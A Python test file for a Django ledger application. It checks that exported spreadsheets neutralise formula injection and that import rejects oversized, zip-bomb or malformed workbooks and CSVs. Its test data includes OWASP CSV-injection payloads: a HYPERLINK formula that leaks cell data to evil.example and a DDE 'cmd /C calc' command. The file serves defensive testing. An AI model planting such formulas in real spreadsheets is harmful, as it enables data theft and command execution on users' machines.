"""Ledgers are safe to open and to feed: user text never becomes an Excel formula, and a hostile or huge
file is refused with a message, quickly, without holding a web request."""

import csv
import io
import zipfile
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from openpyxl import Workbook, load_workbook

from gongwu.core import testing
from gongwu.core.imports import OrganizationLedger
from gongwu.core.models import Job, JobStatus, Organization, Role
from gongwu.core.spreadsheets import append_text_row

# The CSV-injection prefixes of OWASP, each as the start of a real attack.
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-3+4",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


@pytest.fixture(autouse=True)
def english() -> Any:
    with translation.override("en"):
        yield


@pytest.fixture
def agency(db: Any) -> Organization:
    return testing.AgencyFactory(name="鼓楼区建设工务署")


@pytest.fixture
def staff(agency: Organization) -> Any:
    return testing.UserFactory(organization=agency, role=Role.STAFF)


def cells_by_name(content: bytes) -> dict[str, Any]:
    """The name cells of an exported organization ledger, by their value."""
    workbook = load_workbook(io.BytesIO(content))
    sheet = workbook.worksheets[0]
    return {cell.value: cell for (cell,) in sheet.iter_rows(min_row=2, max_col=1)}


def test_exported_user_text_is_a_text_cell_not_a_formula(agency: Organization, staff: Any) -> None:
    for name in HOSTILE_NAMES:
        testing.DepartmentFactory(parent=agency, name=name)
    response = testing.english_client(staff).get("/organizations/export/")
    cells = cells_by_name(response.content)
    for name in HOSTILE_NAMES:
        cell = cells[name]  # the value exactly as stored, not a formula's (missing) result
        assert (cell.data_type, cell.quotePrefix) == ("s", True), name
    assert cells["鼓楼区建设工务署"].quotePrefix is False


def test_tab_and_carriage_return_prefixes_are_written_as_text(agency: Organization) -> None:
    for name in ("\t=1+1", "\r=1+1"):
        Organization.objects.filter(pk=testing.DepartmentFactory(parent=agency).pk).update(name=name)
    stream = io.BytesIO()
    OrganizationLedger().write_xlsx(Organization.objects.order_by("pk"), stream)
    cells = [cell for (cell,) in load_workbook(stream).worksheets[0].iter_rows(min_row=2, max_col=1)]
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells[1:]] == [
        ("\t=1+1", "s", True),
        ("\r=1+1", "s", True),
    ]


def test_exported_hostile_names_import_back_unchanged(agency: Organization, staff: Any) -> None:
    for name in HOSTILE_NAMES:
        testing.DepartmentFactory(parent=agency, name=name)
    content = testing.english_client(staff).get("/organizations/export/").content
    ledger = OrganizationLedger()
    rows = ledger.read(content, "organizations.xlsx")
    assert sorted(values["name"] for _number, values in rows) == sorted([*HOSTILE_NAMES, "鼓楼区建设工务署"])
    result = ledger.preview(rows, staff)
    assert result.summary == {"create": 0, "update": 0, "unchanged": len(HOSTILE_NAMES) + 1, "error": 0}


def test_a_report_keeps_numbers_as_numbers_and_text_as_text() -> None:
    workbook = Workbook()
    sheet = workbook.active
    append_text_row(sheet, [-12.5, "-12.5", "=SUM(A1:A2)", 3])
    assert [(c.value, c.data_type, bool(c.quotePrefix)) for c in sheet[1]] == [
        (-12.5, "n", False),
        ("-12.5", "s", True),
        ("=SUM(A1:A2)", "s", True),
        (3, "n", False),
    ]


# ---- imports that cannot stall the server ---------------------------------------------------------

IMPORT_URL = "/organizations/import/"


def company_row(n: int) -> dict[str, Any]:
    return {
        "name": f"闽江建设工程有限公司{n}号",
        "kind": "Contractor",
        "credit_code": testing.credit_code(9000 + n),
        "is_active": "Yes",
    }


def workbook_bytes(rows: int) -> bytes:
    return testing.ledger_xlsx(OrganizationLedger, [company_row(n) for n in range(rows)])


def with_sheet(content: bytes, change: Any) -> bytes:
    """The workbook with its first sheet's XML passed through `change`."""
    source, stream = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            data = source.read(member.filename)
            if member.filename == "xl/worksheets/sheet1.xml":
                data = change(data)
            target.writestr(member.filename, data)
    return stream.getvalue()


def imported_companies() -> int:
    return Organization.objects.filter(name__startswith="闽江建设工程有限公司").count()


def test_a_file_over_the_row_limit_is_refused_without_being_read_to_its_end(staff: Any, settings: Any) -> None:
    settings.GONGWU_IMPORT_MAX_ROWS = 50

    def broken_after_row_60(xml: bytes) -> bytes:
        # Rows past 60 are not even well-formed XML: reading them would fail with another message.
        end = xml.index(b"</row>", xml.index(b'<row r="61"')) + len(b"</row>")
        return xml[:end] + b'<row r="62"><c r="A62" t="inlineStr"><is><t>cut sh'

    content = with_sheet(workbook_bytes(200), broken_after_row_60)
    page = testing.upload_ledger(testing.english_client(staff), IMPORT_URL, content).content.decode()
    assert "The file has more than 50 rows; at most 50 can be imported at once." in page
    assert (imported_companies(), testing.awaits_confirmation()) == (0, False)


def test_a_workbook_that_unpacks_to_more_than_the_limit_is_refused_before_it_is_opened(
    staff: Any, settings: Any
) -> None:
    settings.GONGWU_IMPORT_MAX_UNPACKED_MB = 1
    content = with_sheet(workbook_bytes(2), lambda xml: xml.replace(b"<sheetData>", b"<sheetData>" + b" " * 5_000_000))
    assert len(content) < 100_000  # a few KB that unpack to 5 MB
    page = testing.upload_ledger(testing.english_client(staff), IMPORT_URL, content).content.decode()
    assert "The workbook unpacks to 4 MB; at most 1 MB can be imported. Split it into smaller files." in page
    assert (imported_companies(), testing.awaits_confirmation()) == (0, False)


def test_the_upload_request_reads_nothing_and_the_worker_previews_the_file(
    staff: Any, monkeypatch: Any, django_capture_on_commit_callbacks: Any
) -> None:
    client = testing.english_client(staff)
    with monkeypatch.context() as patched, django_capture_on_commit_callbacks() as queued:
        patched.setattr(OrganizationLedger, "read", lambda *args: pytest.fail("the request read the file"))
        response = client.post(IMPORT_URL, {"file": SimpleUploadedFile("台账.xlsx", workbook_bytes(3))})
    job = Job.objects.get()
    assert (response.status_code, response["Location"]) == (302, job.get_absolute_url())
    assert (job.status, job.result) == (JobStatus.QUEUED, {})
    for task in queued:  # the worker
        task()
    job.refresh_from_db()
    assert (job.status, job.progress, job.total) == (JobStatus.PREVIEW, 3, 3)
    page = client.get(job.get_absolute_url())
    assert testing.preview_counts(page.content) == {"create": 3, "update": 0, "unchanged": 0, "error": 0}
    assert imported_companies() == 0
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"/jobs/{job.pk}/confirm/")
    job.refresh_from_db()
    assert (job.status, imported_companies()) == (JobStatus.DONE, 3)


def test_a_csv_cell_over_the_field_limit_is_a_row_error(staff: Any) -> None:
    headers = OrganizationLedger().headers()
    codes = [testing.credit_code(9000 + n) for n in range(3)]
    lines = [
        ",".join([headers[0], headers[1], headers[2], headers[4]]),
        f"闽江建设工程有限公司1号,,Contractor,{codes[0]}",
        "闽江建设工程有限公司2号," + "长" * (csv.field_size_limit() + 1) + f",Contractor,{codes[1]}",
        f"闽江建设工程有限公司3号,,Contractor,{codes[2]}",
    ]
    content = "\n".join(lines).encode()
    response = testing.upload_ledger(testing.english_client(staff), IMPORT_URL, content, "台账.csv")
    page = response.content.decode()
    assert testing.preview_counts(response.content) == {"create": 2, "update": 0, "unchanged": 0, "error": 1}
    assert "This row cannot be read: a cell is longer than 131072 characters or a quote is not closed." in page
    assert (imported_companies(), testing.awaits_confirmation()) == (0, False)
